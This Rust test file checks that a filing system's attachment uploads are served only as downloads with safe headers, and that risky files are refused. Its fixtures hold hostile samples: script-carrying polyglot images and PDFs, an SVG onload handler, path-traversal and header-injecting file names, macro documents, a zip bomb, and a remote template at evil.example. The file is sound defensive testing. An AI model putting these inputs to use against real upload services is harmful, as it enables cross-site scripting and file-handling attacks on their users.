//! Attachments: taken by content, refused by content, and handed out so that no browser runs them.

use qunlian_domain::access::Role;

use super::{compound, zipped};
use crate::support::Folder;
use crate::support::guest::Guest;
use crate::support::server::Server;

const SCRIPT: &str = "<html><body><script>alert(document.domain)</script></body></html>";

/// A PDF that is a page, too.
fn pdf_and_page() -> Vec<u8> {
    format!("%PDF-1.7\n{SCRIPT}\n1 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n").into_bytes()
}

/// A picture with a script where cameras write their remarks.
fn picture_with_script() -> Vec<u8> {
    let mut remark = b"Exif\0\0".to_vec();
    remark.extend(SCRIPT.bytes());
    let mut bytes = b"\xff\xd8\xff\xe1".to_vec();
    bytes.extend(u16::try_from(remark.len() + 2).unwrap().to_be_bytes());
    bytes.extend(remark);
    bytes.extend(b"\xff\xc0\0\x0b\x08\0\x09\0\x10\x01\x01\x11\0\xff\xda\0\x08\x01\x01\0\0\x3f\0\x55\xff\xd9");
    bytes
}

fn picture_and_page() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0\0\0\0\0".to_vec();
    bytes.extend(SCRIPT.bytes());
    bytes.extend(b"\0\0\0\0IEND\xaeB`\x82");
    bytes
}

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");
const WORD: (&str, &[u8]) = ("word/document.xml", b"<w/>");

struct Office {
    server: Server,
    clerk: String,
    claim: String,
    _folder: Folder,
}

impl Office {
    /// A clerk with one draft.
    fn new() -> Self {
        let (folder, _) = Folder::with_sample(7, Vec::new());
        let clerk = folder.let_in("clerk", &[Role::Clerk], Some("suixi"));
        let server = Server::start_on(&folder, "2022-06-01");
        let sent = Guest::new(&server, &clerk).post("/filings", &[("carrier", "suixi"), ("name", "附件示例项目"), ("do", "draft")]);
        assert_eq!(sent.status, 303, "{}", sent.text());
        let claim = sent.header("location").split('?').next().unwrap().to_owned();
        assert!(claim.starts_with("/claims/"), "{claim}");
        Self { server, clerk, claim, _folder: folder }
    }

    fn clerk(&self) -> Guest {
        Guest::new(&self.server, &self.clerk)
    }

    /// Addresses of the attachments that stand in the form.
    fn files(&self) -> Vec<String> {
        let page = self.clerk().page(&self.claim);
        page.split("href=\"/files/").skip(1).map(|rest| format!("/files/{}", rest.split('"').next().unwrap())).collect()
    }
}

#[test]
fn what_is_taken_is_handed_out_as_a_file_and_nothing_else() {
    let office = Office::new();
    let long = format!("{}.pdf", "长".repeat(10_000));
    let workbook = zipped(&[TYPES, ("xl/workbook.xml", b"<x/>")]);
    let cases: [(&str, Vec<u8>, &str, &str); 8] = [
        ("page.html", pdf_and_page(), "application/pdf", "page.pdf"),
        ("exif.jpg", picture_with_script(), "image/jpeg", "exif.jpg"),
        ("polyglot.svg", picture_and_page(), "image/png", "polyglot.png"),
        ("../../x", pdf_and_page(), "application/pdf", "x.pdf"),
        ("..\\..\\windows\\system.ini", pdf_and_page(), "application/pdf", "system.pdf"),
        (long.as_str(), pdf_and_page(), "application/pdf", ""),
        ("a.pdf; filename=b.html", pdf_and_page(), "application/pdf", ""),
        ("\u{202e}fdp.xslx", workbook, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "fdp.xlsx"),
    ];
    for (at, (name, bytes, media, kept)) in cases.iter().enumerate() {
        let sent = office.clerk().upload(&format!("{}/files", office.claim), &[], name, bytes);
        assert_eq!(sent.status, 303, "{name:.40}: {}", sent.text());
        let files = office.files();
        assert_eq!(files.len(), at + 1, "{name:.40}");
        let got = office.clerk().get(&files[at]);
        assert_eq!((got.status, got.header("content-type")), (200, *media), "{name:.40}");
        assert_eq!(got.body, *bytes, "every byte as it came");
        let disposition = got.header("content-disposition");
        assert!(disposition.starts_with("attachment; "), "{disposition}");
        assert!(disposition.len() < 1_200 && !disposition.contains(['/', '\\', '\r', '\n']), "{disposition}");
        assert!(disposition.contains(kept) || disposition.contains(&kept.replace('.', "%2E")), "{disposition}");
        assert_eq!(disposition.matches("filename=").count(), 1, "{disposition}");
        assert_eq!(got.header("x-content-type-options"), "nosniff");
        assert!(
            got.header("content-security-policy").contains("default-src 'none'")
                || got.header("content-security-policy").contains("sandbox"),
            "{}",
            got.header("content-security-policy")
        );
        assert_eq!(got.header("cache-control"), "private, no-store");
    }
    let page = office.clerk().page(&office.claim);
    assert!(!page.contains("<script>alert") && !page.contains("../") && !page.contains('\u{202e}'));
    assert!(page.matches('长').count() < 300, "a name is kept as far as it can be read");
}

#[test]
fn what_runs_or_swells_or_pretends_is_refused_in_words() {
    let office = Office::new();
    let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let zeros = vec![0_u8; 64 << 20];
    let macro_types: (&str, &[u8]) =
        ("[Content_Types].xml", b"<Override ContentType='application/vnd.ms-excel.sheet.macroEnabled.main+xml'/>");
    let template: (&str, &[u8]) = ("word/_rels/settings.xml.rels", b"<Relationships><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>");
    let cases: [(&str, Vec<u8>, &str); 13] = [
        ("picture.png", svg, "文件类型"),
        ("page.pdf", SCRIPT.as_bytes().to_vec(), "文件类型"),
        ("page.pdf", [SCRIPT.as_bytes(), &pdf_and_page()].concat(), "文件类型"),
        ("macro.docx", zipped(&[TYPES, WORD, ("word/vbaProject.bin", b"x")]), "宏"),
        ("macro.docx", zipped(&[TYPES, WORD, ("word\\VBAPROJECT.bin", b"x")]), "宏"),
        ("macro.xlsx", zipped(&[macro_types, ("xl/workbook.xml", b"<x/>")]), "宏"),
        ("remote.docx", zipped(&[TYPES, WORD, template]), "宏"),
        ("bomb.docx", zipped(&[TYPES, ("word/document.xml", &zeros)]), ""),
        ("secret.xlsx", compound("EncryptedPackage"), "密码"),
        ("old.xls", compound("Workbook"), "文件类型"),
        ("cut.pdf", b"%PDF-1.7\n1 0 obj".to_vec(), ""),
        ("program.pdf", b"MZ\x90\0\x03".to_vec(), "文件类型"),
        ("nothing.pdf", Vec::new(), ""),
    ];
    for (name, bytes, words) in cases {
        let sent = office.clerk().upload(&format!("{}/files", office.claim), &[], name, &bytes);
        let page = sent.text();
        assert_eq!(sent.status, 422, "{name}: {page}");
        let problem = page.split_once("class=\"problem\" role=\"alert\">").unwrap_or_else(|| panic!("{name}: {page}")).1;
        let problem = problem.split("</p>").next().unwrap();
        assert!(
            problem.contains(words) && problem.chars().filter(|c| ('\u{4e00}'..'\u{9fff}').contains(c)).count() > 6,
            "{name}: {problem}"
        );
        assert_eq!(office.files(), Vec::<String>::new(), "{name}");
    }
    // Twice what is allowed is still read to its end: the browser would not hear the answer otherwise.
    let large = vec![b' '; 41 << 20];
    let sent = office.clerk().upload(&format!("{}/files", office.claim), &[], "large.pdf", &large);
    assert!(sent.status == 422 && sent.text().contains("文件太大"), "{}: {}", sent.status, sent.text());
}
